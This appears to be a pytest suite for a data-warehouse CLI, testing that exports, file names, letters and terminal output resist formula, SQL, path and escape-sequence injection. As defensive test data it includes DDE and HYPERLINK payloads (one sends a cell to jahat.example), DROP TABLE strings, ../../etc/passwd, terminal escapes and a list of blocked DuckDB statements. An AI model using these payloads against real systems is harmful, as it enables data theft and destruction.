"""What we write and print obeys nobody: no formula, no link, no terminal command, no path out of its folder, no SQL."""

from __future__ import annotations

import ast
import csv
import io
import os
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flows import cli
from flows.commands import answers
from flows.commands.terminal import Calm
from flows.outputs.chat import chat_text
from flows.outputs.csv_cells import SIGNS, csv_cell
from flows.outputs.letter import letter
from flows.outputs.letter_template import default_template
from flows.outputs.names import safe_name
from flows.outputs.unseen import without_unseen
from tests.marking_checks import point, reply
from tests.test_house import MODULES, short, tree_of
from tests.test_masking import HEAD, book, business
from warehouse.ddl import named, quoted
from warehouse.readers import reading

FORMULAS = (
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")', "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "-2+3+cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "aman;=1+1", "aman\n=1+1",
    "aman\t@x", '"=1+1',
)  # fmt: skip
OBEYED = re.compile(rb"<(?:\w+:)?(?:f|hyperlink|ddeLink|externalReference|instrText|fldSimple)[\s>/]")
ESCAPES = "\x1b[2J\x1b]0;judul\x07\u202excod.slx\u009b31m\u2066"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_whatever_separates_the_cells(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["a", csv_cell(text), -5])
    assert computed(out.getvalue()) == []


def computed(written: str) -> list[str]:
    """Cells that a spreadsheet would compute, read with comma, with semicolon, and with tab."""
    found = []
    for separator in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            found += [cell for cell in line if re.match(rf"\s*[{SIGNS}]", cell) and not is_number(cell)]
    return found


def is_number(cell: str) -> bool:
    # Read with semicolons, a line of ours is one cell, which may begin with a number below zero.
    return re.match(r"-\d+(?:[.,]\d+)*(?:$|[,;])", cell) is not None or set(cell) <= set("-+. \t")


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(alphabet="=+-@;,\t\r\n\"' a1|!", max_size=12), min_size=1, max_size=4))
def test_no_row_of_any_texts_becomes_a_formula(texts: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["x", *map(csv_cell, texts)])
    ours = next(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [
        one for one in ours if re.match(rf"\s*[{SIGNS}]", one) and not re.fullmatch(r"[-+\d.,%\s]*", one)
    ] == []


@pytest.mark.parametrize(
    "value", [-5, -5.25, None, True, date(2021, 1, 1), "1.000,50", "-", "--", "5 - 6", "Rp -5"]
)
def test_numbers_and_plain_texts_stay_as_they_are(value: Any) -> None:
    assert csv_cell(value) == value


class Terminal(io.StringIO):
    """Somebody looks at it."""

    def isatty(self) -> bool:
        return True


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A list of businesses with formulas for names, in a file and a home whose names would break out of SQL."""
    folder = tmp_path_factory.mktemp("masuk") / "KAB. BARRU'); DROP TABLE ikm; --"
    home = tmp_path_factory.mktemp("home") / "o'neil\"; --"
    folder.mkdir()
    rows = [business(number) for number in range(1, 30)]
    for line, text in zip(rows, FORMULAS, strict=False):
        line[HEAD.index("Nama Usaha")] = line[HEAD.index("Produk")] = line[HEAD.index("Satuan")] = (
            text.strip()
        )
        line[HEAD.index("Kecamatan")] = text.strip()
        line[HEAD.index("Tahun Izin")] = text.strip()
    book(folder / "Data'; DROP TABLE kiriman; -- 2021.xlsx", rows, sheet="'); DROP--")
    plain(folder / "Data'; DROP TABLE kiriman; -- 2021.xlsx")
    assert cli.main(["load", str(folder), "--home", str(home)]) in (0, 1)
    return home


def plain(path: Path) -> None:
    """Make every formula of a workbook that openpyxl wrote the text that it was meant to be."""
    made = openpyxl.load_workbook(path)
    for cell in (cell for line in made.active.iter_rows() for cell in line if cell.data_type == "f"):
        cell.data_type = "s"
    made.save(path)


def test_data_that_looks_like_sql_is_data(home: Path) -> None:
    with reading(home, True) as con:
        asked = con.execute(
            "SELECT berkas, lembar, baris_dimuat FROM kiriman WHERE laporan = 'ikm'"
        ).fetchall()
        texts = {one for (one,) in con.execute("SELECT nama_usaha FROM ikm").fetchall()}
    assert asked == [("Data'; DROP TABLE kiriman; -- 2021.xlsx", "'); DROP--", 29)]
    assert {"=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'x'!A0"} <= texts


@pytest.mark.parametrize(
    "asked",
    [
        ["sql", "SELECT nama_usaha, komoditas, -5 AS n, [nama_usaha] FROM ikm", "--terbatas"],
        ["sql", "SELECT '=1+1' AS \"=1+1\", * FROM temuan"],
        ["trace", "SELECT sum(tenaga_kerja) FROM ikm"],
    ],
    ids=["sql", "findings", "trace"],
)
def test_no_export_holds_a_formula(asked: list[str], home: Path, tmp_path: Path) -> None:
    target = tmp_path / "hasil.csv"
    assert cli.main([*asked, "--format", "csv", "--keluar", str(target), "--home", str(home)]) == 0
    written = target.read_text(encoding="utf-8-sig")
    assert computed(written) == [] and written.count("\n") > 20
    target = tmp_path / "hasil.xlsx"
    assert cli.main([*asked, "--format", "xlsx", "--keluar", str(target), "--home", str(home)]) == 0
    assert not obeys(target.read_bytes())


def obeys(data: bytes) -> list[str]:
    """Formulas, links, and what a package refers to outside itself."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            body = archive.read(name)
            found += [name] * bool(re.search(OBEYED, body))
            found += [name] * (b'TargetMode="External"' in body)
    return found


def test_no_answer_to_a_district_holds_a_formula_or_a_link(home: Path) -> None:
    written = list((home / "feedback").rglob("*.*"))
    assert {path.suffix for path in written if path.is_file()} >= {".xlsx", ".docx", ".txt"}
    # Links within the workbook, from the list to the cell, are ours.
    ours = re.compile(
        rb'<hyperlink ref="[A-Z]+\d+" location="[^"]*"(?: display="[^"]*")?(?: tooltip="[^"]*")?/>'
    )
    for path in written:
        if path.suffix in {".xlsx", ".docx"}:
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    body = ours.sub(b"", archive.read(name))
                    assert not re.search(OBEYED, body), (path, name)
                    assert b'TargetMode="External"' not in body
        assert path.resolve().is_relative_to((home / "feedback").resolve())


def test_a_workbook_keeps_dates_before_its_calendar_and_says_when_it_is_too_small(tmp_path: Path) -> None:
    target = tmp_path / "a.xlsx"
    old = [
        date(1800, 1, 1),
        datetime(1, 1, 1, 8),
        date(1899, 12, 31),
        date(1900, 1, 1),
        "x" * 40_000,
        "\ud800\x00\ufffe",
    ]
    answers.write_workbook(["a"], [[one] for one in old], str(target))
    cells = [cell.value for (cell,) in openpyxl.load_workbook(target)["Hasil"].iter_rows(min_row=2)]
    assert cells[:4] == ["1800-01-01", "0001-01-01 08:00:00", "1899-12-31", datetime(1900, 1, 1)]
    assert len(cells[4]) == 32_767 and cells[4].endswith("…")
    with pytest.raises(answers.TooLong):
        answers.write_workbook(["a"], [[1]] * 1_048_576, str(target))


def test_a_result_longer_than_a_sheet_is_refused_in_a_sentence(
    home: Path, tmp_path: Path, capsys: Any
) -> None:
    asked = ["sql", "SELECT unnest(range(1048576))", "--format", "xlsx", "--keluar", str(tmp_path / "a.xlsx")]
    assert cli.main([*asked, "--home", str(home)]) == 2
    assert "--format csv" in capsys.readouterr().err and not (tmp_path / "a.xlsx").exists()


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd", "..", "/abs", "C:\\x", "CON", "con.xlsx", "aux .xlsx", "COM¹", "lpt9.v2",
        "CONIN$", "nama.", "nama ",
        " . ", "a/b\\c", "a\x00b", "a\nb", ESCAPES, "\u202egnp.exe", "x" * 300, "é" * 300,
        "\U0001f600" * 90, "\ud800", "",
        "~$a", "a:b", "a|b", "\u061ca", "nul", "Clock$",
    ],
)  # fmt: skip
def test_a_name_leads_nowhere_and_every_system_takes_it(name: str, tmp_path: Path) -> None:
    made = safe_name(name)
    assert made == safe_name(made) and len(made.encode()) <= 151
    assert (
        not set(made) & set('<>:"/\\|?*') and made == made.strip().strip(".") and made not in {"", ".", ".."}
    )
    assert without_unseen(made) == made
    stem = made.split(".")[0].strip().lower()
    assert stem not in {"con", "prn", "aux", "nul", "conin$", "conout$"} and not re.fullmatch(
        r"(?:com|lpt)[\d¹²³]", stem
    )
    (tmp_path / f"{made} - perbaikan.xlsx").write_bytes(b"")
    assert [path.parent for path in tmp_path.iterdir()] == [tmp_path]


def test_what_is_printed_moves_no_cursor(tmp_path: Path, capsys: Any) -> None:
    """Names of files, sheets and values with terminal commands in them, through the commands that print them."""
    folder, home = tmp_path / "masuk", tmp_path / "home"
    folder.mkdir()
    rows = [business(number) for number in range(1, 10)]
    rows[0][HEAD.index("Kecamatan")] = "Ba\u202erru\u009b31m"
    book(folder / f"Data{ESCAPES.replace('/', '')} Barru 2021.xlsx", rows, sheet="Da\u202eta")
    (folder / "\x1b[31mkosong.xlsx").write_bytes(b"")
    (folder / "[bold] [x].xlsx").write_bytes(b"PK\x03\x04rusak")
    common = ["--home", str(home)]
    for asked in (
        ["load", str(folder)], ["check", str(folder)], ["check", str(folder), "--explain"],
        ["feedback"], ["doctor"],
        ["sql", "SELECT * FROM kiriman"], ["sql", "SELECT chr(27) || '[31m' AS a, nilai FROM temuan"],
        ["sql", "SELECT \"\x1b[31m\""], ["withdraw", "\x1b[31m", "--alasan", "x"], ["load",
        str(folder / "\x1b[2Jtiada")],
        ["reload", "--ditolak"], ["trace", "SELECT sum(tenaga_kerja) FROM ikm"],
    ):  # fmt: skip
        assert cli.main([*asked, *common]) in (0, 1, 2), asked
        said = capsys.readouterr()
        text = said.out + said.err
        assert text and without_unseen(text) == text, asked
        assert "Traceback" not in text


def test_data_for_a_program_stays_as_it_is_and_a_terminal_is_spared(
    home: Path, monkeypatch: Any, capsys: Any
) -> None:
    asked = ["sql", "SELECT chr(8238) || 'a' AS a", "--format", "csv", "--home", str(home)]
    assert cli.main(asked) == 0 and "\u202ea" in capsys.readouterr().out
    screen = Terminal()
    monkeypatch.setattr("sys.stdout", screen)
    assert cli.main(asked) == 0
    assert "\u202e" not in screen.getvalue() and screen.getvalue().splitlines() == ["a", "\ufffda"]


def test_a_calm_stream_is_a_stream() -> None:
    behind = io.StringIO()
    stream: Any = Calm(behind)
    stream.writelines(["a\x1b", "b\r\n"])
    assert behind.getvalue() == "a\ufffdb\r\n" and not stream.isatty()


def test_letter_and_message_take_any_name(tmp_path: Path) -> None:
    name = f"Data <w:p>&amp;{ESCAPES}\ufffe\uffff\ud800{{{{no}}}} 2021.xlsx"
    told = reply([point(f"Le{ESCAPES}mbar", "A1")], berkas=name)
    data = letter(told, default_template(), f"{name} - perbaikan.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("word/document.xml").decode()
    assert "&lt;w:p&gt;&amp;amp;" in text and without_unseen(text) == text
    assert without_unseen(chat_text(told, name)) == chat_text(told, name)


# --- SQL ------------------------------------------------------------------------------------------------------------

QUERIES = frozenset({"execute", "sql", "query"})
#: What makes an identifier or a literal of anything.
QUOTING = frozenset({"named", "quoted", "min"})
#: Other pieces of queries, by module: made of names and texts of ours, or quoted where they are made.
REVIEWED: dict[str, tuple[str, ...]] = {
    "flows/answers.py": ("same", "asked"),
    "flows/commands/doctor_warehouse.py": ("options or ' (READ_ONLY)'",),
    "flows/commands/query.py": ("query",),  # the analyst's own, on a locked connection
    "flows/kept.py": ("asked",),
    "flows/site_questions.py": ("query",),
    "flows/site_reporting.py": ("columns",),
    "flows/status.py": ("columns", "query", "view.sql"),
    "warehouse/content.py": (
        "catalog", "table", "select", "source", "replace", "target", "spec.name", "person", "business", "asked",
        "_select(spec, masked, current, places)", "view.name", "view.sql",
        "';\\n'.join((text for macro in macros(specs, mark) for text in macro.statements))",
        "' UNION '.join(texts) or 'SELECT NULL::VARCHAR AS teks'", "KEYS_OF_ROWS.format(laporan=spec.name)",
        "WITH_STORED_KEYS.format(laporan=spec.name, tabel=named(spec.name))",
    ),
    "warehouse/ddl.py": ("table", "columns", "field.type"),
    "warehouse/difference.py": ("sums",),
    "warehouse/digest.py": ("row", "asked", "read_options(secret)"),
    "warehouse/force.py": ("which",),
    "warehouse/freeze.py": ("read_options(None)",),
    "warehouse/obligations.py": ("', '.join(_SCHEMA)",),
    "warehouse/publish.py": (
        "catalog", "_options('RECOVERY_MODE NO_WAL_WRITES', secret)", "read_options(secret)",
    ),
    "warehouse/purge.py": (
        "', '.join(changed)", "asked", "business or 'NULL::VARCHAR'", "person or 'NULL::VARCHAR'", "statement",
    ),
    "warehouse/readers.py": ("attach", "setting"),
    "warehouse/scrubbing.py": ("asked",),
    "warehouse/shell.py": ("';\\n'.join(made)",),
    "warehouse/store.py": ("asked",),
    "warehouse/trace.py": (
        "rows_query(con, plan, number)", "number_query(con, plan, number)", "query", "select", "_list(keys)",
    ),
    "warehouse/versions.py": ("options", "all_rows(laporan)", "all_rows(compared.laporan)", "which"),
}  # fmt: skip


def pieces_of(query: ast.expr) -> list[ast.expr]:
    """What a query is put together of, but for the texts that stand there."""
    if isinstance(query, ast.JoinedStr):
        return [part.value for part in query.values if isinstance(part, ast.FormattedValue)]
    if isinstance(query, ast.BinOp):
        return [piece for side in (query.left, query.right) for piece in pieces_of(side)]
    return [] if isinstance(query, ast.Constant) else [query]


def is_ours(piece: ast.expr) -> bool:
    """A constant of a module, or a name or text that is quoted there and then."""
    if isinstance(piece, ast.Call) and isinstance(piece.func, ast.Name):
        return piece.func.id in QUOTING
    return isinstance(piece, ast.Name) and piece.id.isupper()


@pytest.mark.parametrize("path", MODULES, ids=short)
def test_no_query_is_built_from_data(path: Path) -> None:
    """What comes from a workbook reaches a query as a parameter or in a frame. A piece that is new here is to be
    looked at: quote it, hand it over as a parameter, or list it with those that were looked at."""
    strange = []
    reviewed = REVIEWED.get(short(path), ())
    for node in ast.walk(tree_of(path)):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.args):
            continue
        if node.func.attr in QUERIES:
            strange += [
                f"line {piece.lineno}: {ast.unparse(piece)}"
                for piece in pieces_of(node.args[0])
                if not is_ours(piece) and ast.unparse(piece) not in reviewed
            ]
    assert strange == []


@settings(deadline=None, max_examples=60)
@given(st.text(alphabet="'\"\\;-ab\n\x00", max_size=12))
def test_what_is_quoted_stays_one_name_and_one_text(text: str) -> None:
    import duckdb

    con = duckdb.connect()
    if "\x00" not in text:
        assert con.execute(f"SELECT {quoted(text)}").fetchall() == [(text,)]
    if text and "\x00" not in text:
        con.execute(f"SELECT 1 AS {named(text)}")
        assert con.description is not None and con.description[0][0] == text
    con.close()


@pytest.mark.parametrize(
    "query",
    [
        "PRAGMA profiling_output='{target}'", "SET profiling_output='{target}'", "RESET enable_external_access",
        "SET GLOBAL threads = 1", "DETACH ikm", "ATTACH '{target}' AS z (TYPE sqlite)",
        "COPY (SELECT 1) TO '/dev/stdout'",
        "SELECT * FROM read_parquet('{file}')", "SELECT * FROM read_blob('{file}')",
        "SELECT * FROM read_json('{file}')",
        "SELECT * FROM sniff_csv('{file}')", "SELECT * FROM parquet_metadata('{file}')",
        "SELECT getenv('HOME')",
        "SELECT * FROM 'https://contoh.example/a.csv'",
        "SELECT * FROM query('SELECT * FROM read_text(''{file}'')')",
        "CREATE VIEW v AS SELECT 1", "CREATE MACRO f() AS 1", "COMMENT ON TABLE ikm IS 'x'",
        "IMPORT DATABASE '{target}'",
        "INSTALL '{target}'", "LOAD '{target}'", "UPDATE EXTENSIONS", "CALL start_ui()", "FROM sys", "FROM con",
        "BEGIN; DELETE FROM ikm.main.kiriman; COMMIT", "SELECT 1; DROP TABLE ikm.main.ikm",
        "ALTER TABLE ikm ADD COLUMN x INT",
        "INSERT INTO kiriman SELECT * FROM kiriman",
        "COPY FROM DATABASE memory TO ikm", "TRUNCATE ikm.main.ikm", "CREATE SECRET s (TYPE S3)",
        "ATTACH '{target}'",
        "CALL enable_logging(storage='file', storage_config={{'path': '{target}'}})",
        "FROM enable_logging(storage = 'file')", "CALL \"enable_profiling\"(save_location='{target}.json')",
        "SET file_search_path = '/'", "SET secret_directory = '/'", "SET home_directory = '/'",
        "PRAGMA database_size; SET x = 1",
    ],
)  # fmt: skip
def test_a_query_changes_and_reads_nothing_else(query: str, home: Path, tmp_path: Path, capsys: Any) -> None:
    file, target = tmp_path / "lain.csv", tmp_path / "keluar"
    file.write_text("rahasia\n1\n", encoding="utf-8")
    before = {path: path.stat().st_mtime_ns for path in home.rglob("*")}
    code = cli.main(["sql", query.format(file=file, target=target), "--home", str(home)])
    said = capsys.readouterr()
    assert code == 2 and said.out == "" and said.err.strip() and "Traceback" not in said.err
    assert not target.exists() and {path: path.stat().st_mtime_ns for path in home.rglob("*")} == before
    assert os.listdir(tmp_path) == ["lain.csv"]
